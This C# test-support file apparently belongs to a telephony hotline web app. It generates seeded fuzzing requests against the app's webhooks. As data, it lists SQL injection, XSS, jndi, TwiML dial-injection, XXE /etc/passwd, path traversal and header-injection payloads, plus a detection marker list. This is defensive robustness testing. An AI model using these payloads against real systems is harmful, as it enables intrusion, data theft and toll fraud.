using System.Collections.Concurrent;
using System.Globalization;
using System.IO.Pipelines;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Hotline.Web.Tests.Infrastructure;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.AspNetCore.WebUtilities;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Xunit.Abstractions;

namespace Hotline.Web.Tests.Reliability;

/// <summary>One generated request: what goes on the wire, and what the server will parse out of it.</summary>
public sealed record HostileRequest(int Index, string Shape, string PathAndQuery, byte[]? Body, string? ContentType,
    IReadOnlyDictionary<string, string> Parsed, bool FormUnreadable)
{
    public HttpRequestMessage ToMessage(HttpMethod? method = null)
    {
        var request = new HttpRequestMessage(method ?? HttpMethod.Post, PathAndQuery);
        if (Body is not null)
        {
            request.Content = new ByteArrayContent(Body);
            if (ContentType is not null) request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
        }
        return request;
    }

    /// <summary>Enough of the input to reproduce it by eye; the seed and index reproduce it exactly.</summary>
    public string Describe()
    {
        var body = Body is null ? "(no body)" : Escape(Encoding.UTF8.GetString(Body, 0, Math.Min(Body.Length, 400)));
        return $"#{Index} shape={Shape} POST {Escape(PathAndQuery)} content-type={ContentType ?? "(none)"} bytes={Body?.Length ?? 0} " +
            $"body={body}";
    }

    private static string Escape(string s) =>
        string.Concat(s.Select(c => c < 0x20 || c is '\u007f' or '\ufffd' ? $"\\x{(int)c:x2}" : c.ToString()));
}

/// <summary>
/// A deterministic generator of hostile input: every value comes from one seeded <see cref="Random"/>,
/// so a failure reproduces from the seed and the request index printed with it.
/// </summary>
public sealed class HostileCorpus(int seed)
{
    public int Seed { get; } = seed;
    private readonly Random _r = new(seed);

    public const string AttackerNumber = "+19005550199";

    /// <summary>Injection strings whose appearance in any answer would mean input was echoed or interpreted.</summary>
    public static readonly string[] Injections =
    [
        "' OR 1=1--", "; DROP TABLE cases;--", "1; DELETE FROM contacts WHERE 1=1", "\" OR \"\"=\"", "admin'--",
            "1' UNION SELECT password FROM users--",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "{{7*7}}",
            "${jndi:ldap://x/a}",
        $"</Say><Dial>{AttackerNumber}</Dial><Say>", $"]]></Say><Dial>{AttackerNumber}</Dial>", $"<Redirect>http://evil.test/x</Redirect>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "&lt;Dial&gt;+1900&lt;/Dial&gt;",
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini", "/%2e%2e/%2e%2e/etc/shadow",
        "%s%s%s%n", "\r\n\r\nX-Injected: 1", "Set-Cookie: hotline.auth=x",
    ];

    /// <summary>Markers that must never appear in a webhook's TwiML.</summary>
    public static readonly string[] Markers = [
        "<script", "onerror", AttackerNumber, "DROP TABLE", "OR 1=1", "etc/passwd", "evil.test", "alert(1)", "jndi", "X-Injected",
        "UNION SELECT"];

    private static readonly string[] Confusables = [
        "аdmin", "ᴀᴅᴍɪɴ", "ｓｃｒｉｐｔ", "＜script＞", "\u202Eexe.txt", "\uFEFFBOM", "zero\u200Bwidth", "\u0130stanbul", "ß", "ﬁ", "Ⅻ", "٣٤", "９９",
        "𝟗𝟗𝟗", "🙂🚨", "\u0301\u0301\u0301"];
    private static readonly string[] Numbers = [
        "-1", "-0", "0", "99999999999999999999999999999", "2147483648", "-2147483649", "9223372036854775808", "1e308", "NaN", "Infinity",
        "0x7fffffff", "1.5", "1,5", "+1", " 1 ", "1/0", "１"];
    private static readonly string[] Words = [
        "", " ", "null", "undefined", "true", "false", "[]", "{}", "STOP", "START", "HELP", "1", "2", "9", "*", "#", "completed", "leave",
        "bridged"];

    /// <summary>Invalid UTF-8 and overlong encodings, already percent-escaped (plus two broken escapes).</summary>
    private static readonly string[] BadEncodings = [
        "%C0%AF", "%E0%80%AF", "%F0%80%80%AF", "%C0%80", "%ED%A0%80", "%ED%BF%BF", "%FF%FE%FD", "%80", "%F8%88%80%80%80", "%C3", "%zz", "%",
        "%0", "%%41"];

    public int Next(int max) => _r.Next(max);
    public bool Chance(double p) => _r.NextDouble() < p;
    public T Pick<T>(IReadOnlyList<T> items) => items[_r.Next(items.Count)];

    public string RandomString(int length)
    {
        var sb = new StringBuilder(length);
        for (var i = 0; i < length; i++)
        {
            sb.Append(_r.Next(6) switch
            {
                0 => (char)_r.Next(0x20, 0x7f),
                1 => (char)_r.Next(0x01, 0x20),                   // control characters (NUL has its own kind)
                2 => (char)_r.Next(0xa0, 0x2fff),                 // assorted BMP text
                3 => (char)_r.Next(0x4e00, 0x9fff),               // CJK
                4 => "<>&\"'%;=\\/"[_r.Next(10)],
                _ => (char)_r.Next('a', 'z' + 1),
            });
        }
        return sb.ToString();
    }

    /// <summary>A hostile value and its percent-encoded wire form (which may be invalid UTF-8).</summary>
    public (string Kind, string Wire) Value()
    {
        switch (_r.Next(13))
        {
            case 0: return ("random", Encode(RandomString(_r.Next(1, 64))));
            case 1: return ("oversized", Encode(new string((char)_r.Next('a', 'z' + 1), 100 * 1024)));
            case 2: return ("sql", Encode(Pick(Injections[..6])));
            case 3: return ("script", Encode(Pick(Injections[6..12])));
            case 4: return ("twiml", Encode(Pick(Injections[12..17])));
            case 5: return ("traversal", Encode(Pick(Injections[17..21])));
            // NUL makes ASP.NET Core refuse the whole form, so it is kept rarer than the rest to let most requests reach the handlers.
            case 6: return Chance(0.3) ? ("nul", Encode(Pick(new[] { "\0", "a\0b", "+1555\0", "\0\0\0\0" })))
                : ("control", Encode(RandomControl()));
            case 7: return ("control", Encode(RandomControl()));
            case 8: return ("confusable", Encode(Pick(Confusables)));
            case 9: return ("number", Encode(Pick(Numbers)));
            case 10: return ("bad-utf8", Encode(RandomString(3)) + Pick(BadEncodings) + Encode(RandomString(2)));
            case 11: return ("word", Encode(Pick(Words)));
            default: return ("header-ish", Encode(Pick(Injections[21..])));
        }
    }

    private string RandomControl() =>
        new(Enumerable.Range(0, _r.Next(1, 12)).Select(_ => (char)(_r.Next(3) == 0 ? _r.Next(0x7f, 0xa0) : _r.Next(1, 0x20))).ToArray());

    /// <summary>
    /// Builds one request to <paramref name="path"/> from realistic <paramref name="fields"/>, with values replaced,
    /// dropped, repeated or added, and the body shaped as a form, JSON, XML, multipart, nothing, or garbage.
    /// </summary>
    public HostileRequest Request(int index, string path, IReadOnlyDictionary<string, string> fields, string? extraQueryKey = null)
    {
        var kinds = new List<string>();
        var pairs = new List<(string Key, string Wire)>();
        foreach (var (key, value) in fields)
        {
            if (Chance(0.1)) { kinds.Add("missing"); continue; }
            if (Chance(0.5)) { var (kind, wire) = Value(); kinds.Add(kind); pairs.Add((Encode(key), wire)); }
            else
            {
                pairs.Add((Encode(key), Encode(value)));
            }
            if (Chance(0.08)) { var (kind, wire) = Value(); kinds.Add("repeated-" + kind); pairs.Add((Encode(key), wire)); }
        }
        for (var extra = _r.Next(3); extra > 0; extra--)
        {
            var (kind, wire) = Value();
            kinds.Add("extra-" + kind);
            pairs.Add((Chance(0.5) ? Encode(RandomString(_r.Next(1, 12))) : Pick(BadEncodings), wire));
        }
        var query = "";
        if (extraQueryKey is not null && !Chance(0.1))
        {
            var value = Chance(0.6) ? Pick(Numbers) : Chance(0.5) ? Pick(Injections) : RandomString(_r.Next(1, 10));
            query = $"?{extraQueryKey}={Uri.EscapeDataString(value)}";
            if (Chance(0.1)) query += $"&{extraQueryKey}={Uri.EscapeDataString(Pick(Numbers))}"; // repeated key
        }
        var url = path + query;

        var shape = _r.Next(20) switch
        {
            < 10 => "form",
            10 => "form-5000-fields",
            11 => "form-100KB-key",
            12 => "form-malformed",
            13 => "form-raw-invalid-utf8",
            14 => "json",
            15 => "xml",
            16 => "multipart",
            17 => "multipart-no-boundary",
            18 => "no-content-type",
            _ => "empty",
        };
        var kindText = string.Join(',', kinds.Distinct());
        const string formType = "application/x-www-form-urlencoded";
        switch (shape)
        {
            case "form":
                return Form(index, $"form[{kindText}]", url, Join(pairs), formType);
            case "form-5000-fields":
                return Form(
                    index, shape, url, Join(pairs.Concat(Enumerable.Range(0, 5000).Select(i => ($"f{i}", Encode(RandomString(4)))))),
                    formType);
            case "form-100KB-key":
                return Form(index, shape, url, Join(pairs.Append((new string('k', 100 * 1024), "v"))), formType);
            case "form-malformed":
                return Form(
                    index, shape, url,
                    Pick(new[] { "&&&==&a=%zz%&=b&%", "=", "&", "a==b==c", "%3D%26%3D", "a=1&a", ";;;;", "a=%u0041", "\r\n\r\n" }) + "&"
                    + Join(pairs), formType);
            case "form-raw-invalid-utf8":
            {
                var bytes = Encoding.ASCII.GetBytes(Join(pairs) + "&raw=")
                    .Concat(new byte[] { 0xff, 0xfe, 0xc0, 0xaf, 0x01, 0x80, 0xed, 0xa0, 0x80 }).ToArray();
                return Form(index, shape, url, bytes, formType + (Chance(0.5) ? "; charset=utf-8" : "; charset=x-bogus"));
            }
            case "json":
            {
                var json = Chance(0.2) ? "{\"CallSid\": [1,2,{\"a\":"
                    : JsonSerializer.Serialize(pairs.GroupBy(p => p.Key)
                        .ToDictionary(g => Uri.UnescapeDataString(g.Key), g => Uri.UnescapeDataString(g.First().Wire)));
                return Other(index, $"json[{kindText}]", url, Encoding.UTF8.GetBytes(json), "application/json");
            }
            case "xml":
            {
                var xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x \"&#x26;#x3C;Dial&#x3E;\">]><r>" +
                          string.Concat(fields.Keys.Select(k => $"<{k}>{System.Security.SecurityElement.Escape(Pick(Injections))}</{k}>"))
                              + "&x;</r>";
                return Other(index, "xml", url, Encoding.UTF8.GetBytes(xml), Chance(0.5) ? "application/xml" : "text/xml");
            }
            case "multipart":
            {
                var content = new MultipartFormDataContent("hostile-boundary");
                var parsed = new Dictionary<string, string>();
                foreach (var (key, value) in fields)
                {
                    var v = Chance(0.5) ? value : Pick(Injections);
                    content.Add(new StringContent(v), key);
                    parsed[key] = v;
                }
                content.Add(
                    new ByteArrayContent([0xff, 0x00, 0x3c])
                    { Headers = { ContentType = new MediaTypeHeaderValue("application/octet-stream") } }, "upload", "../../evil.sh");
                var body = content.ReadAsByteArrayAsync().GetAwaiter().GetResult();
                return new HostileRequest(index, "multipart", url, body, content.Headers.ContentType!.ToString(), parsed, false);
            }
            case "multipart-no-boundary":
                return new HostileRequest(
                    index, shape, url, Encoding.ASCII.GetBytes(Join(pairs)), "multipart/form-data", new Dictionary<string, string>(), true);
            case "no-content-type":
                return Other(index, shape, url, Encoding.UTF8.GetBytes(Join(pairs)), null);
            default:
                return new HostileRequest(index, shape, url, null, null, new Dictionary<string, string>(), false);
        }
    }

    private static HostileRequest Other(int index, string shape, string url, byte[] body, string? contentType) =>
        new(index, shape, url, body, contentType, new Dictionary<string, string>(), false);

    private static HostileRequest Form(int index, string shape, string url, string body, string contentType) =>
        Form(index, shape, url, Encoding.ASCII.GetBytes(body), contentType);

    private static HostileRequest Form(int index, string shape, string url, byte[] body, string contentType)
    {
        var (parsed, unreadable) = ParseLikeTheServer(body);
        return new HostileRequest(index, shape, url, body, contentType, parsed, unreadable);
    }

    /// <summary>Parses a urlencoded body with the same reader and default limits ASP.NET Core uses.</summary>
    public static (IReadOnlyDictionary<string, string> Form, bool Unreadable) ParseLikeTheServer(byte[] body)
    {
        try
        {
            var reader = new FormPipeReader(PipeReader.Create(new MemoryStream(body)));
            var form = reader.ReadFormAsync().GetAwaiter().GetResult();
            return (form.ToDictionary(f => f.Key, f => f.Value.ToString()), false);
        }
        catch (InvalidDataException)
        {
            return (new Dictionary<string, string>(), true);
        }
    }

    private static string Join(IEnumerable<(string Key, string Wire)> pairs) => string.Join('&', pairs.Select(p => p.Key + "=" + p.Wire));

    /// <summary>Percent-encodes UTF-8 bytes (lone surrogates become U+FFFD, as any encoder would send them).</summary>
    public static string Encode(string value)
    {
        var bytes = new UTF8Encoding(false, false).GetBytes(value);
        var sb = new StringBuilder(bytes.Length * 3);
        foreach (var b in bytes)
        {
            if (b is >= (byte)'a' and <= (byte)'z' or >= (byte)'A' and <= (byte)'Z' or >= (byte)'0' and <= (byte)'9'
                or (byte)'-' or (byte)'_' or (byte)'.' or (byte)'~')
            {
                sb.Append((char)b);
            }
            else
            {
                sb.Append('%').Append(b.ToString("X2", CultureInfo.InvariantCulture));
            }
        }
        return sb.ToString();
    }
}

/// <summary>Runs requests a few at a time and tallies them per endpoint.</summary>
public static class HostileRunner
{
    public static async Task RunAsync<T>(IReadOnlyList<T> items, Func<T, Task> send, int degree = 4) =>
        await Parallel.ForEachAsync(items, new ParallelOptions { MaxDegreeOfParallelism = degree }, async (item, _) => await send(item));

    public static void Report(ITestOutputHelper output, string title, IReadOnlyDictionary<string, int> counts)
    {
        output.WriteLine($"{title}: {counts.Values.Sum()} requests");
        foreach (var (endpoint, n) in counts.OrderBy(c => c.Key, StringComparer.Ordinal)) output.WriteLine($"  {n,6}  {endpoint}");
    }

    public static void Fail(int seed, ConcurrentQueue<string> failures, int total)
    {
        if (failures.IsEmpty) return;
        Assert.Fail(
            $"seed {seed}: {failures.Count} of {total} hostile requests failed. First ones:\n" + string.Join("\n", failures.Take(15)));
    }
}

/// <summary>Collects error logs: webhooks turn exceptions into safe TwiML, so a 200 alone could hide a crash.</summary>
public sealed class ErrorLog : ILoggerProvider
{
    public ConcurrentQueue<string> Errors { get; } = new();
    public ILogger CreateLogger(string categoryName) => new Logger(this, categoryName);
    public void Dispose() { }

    private sealed class Logger(ErrorLog log, string category) : ILogger
    {
        public IDisposable? BeginScope<TState>(TState state) where TState : notnull => null;
        // EF Core logs every failed command at Error, including the unique-violation races the intake catches and
        // answers on purpose; an unhandled one still reaches the safe-failure filter or the exception handler.
        public bool IsEnabled(LogLevel logLevel) => logLevel >= LogLevel.Error
            && !category.StartsWith("Microsoft.EntityFrameworkCore", StringComparison.Ordinal);
        public void Log<TState>(
            LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
        {
            if (IsEnabled(logLevel))
            {
                log.Errors.Enqueue(
                    $"{category}: {formatter(state, exception)} {exception?.GetType().Name}: {exception?.Message}");
            }
        }
    }
}

/// <summary>One database and one app per test class, with error logs captured.</summary>
public sealed class HostileFixture : IAsyncLifetime
{
    public TwilioApiMock Twilio { get; } = new();
    public ErrorLog Log { get; } = new();
    public string ConnectionString { get; private set; } = "";
    public HotlineApp Base { get; private set; } = null!;
    public WebApplicationFactory<Program> App { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        ConnectionString = await TestPostgres.CreateDatabaseAsync();
        Base = new HotlineApp(ConnectionString, Twilio);
        App = Base.WithWebHostBuilder(b => b.ConfigureServices(s => s.AddSingleton<ILoggerProvider>(Log)));
        _ = App.Server;
    }

    public HttpClient Client(bool cookies = false) =>
        App.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false, HandleCookies = cookies });

    public async Task<T> WithDbAsync<T>(Func<Hotline.Web.Data.HotlineDbContext, Task<T>> work)
    {
        await using var scope = App.Services.CreateAsyncScope();
        return await work(scope.ServiceProvider.GetRequiredService<Hotline.Web.Data.HotlineDbContext>());
    }

    public Task<long> CountAsync(string sql) => TestPostgres.ScalarAsync<long>(ConnectionString, sql);

    public async Task DisposeAsync()
    {
        await App.DisposeAsync();
        await Base.DisposeAsync();
        Twilio.Dispose();
        await TestPostgres.DropDatabaseAsync(ConnectionString);
    }
}
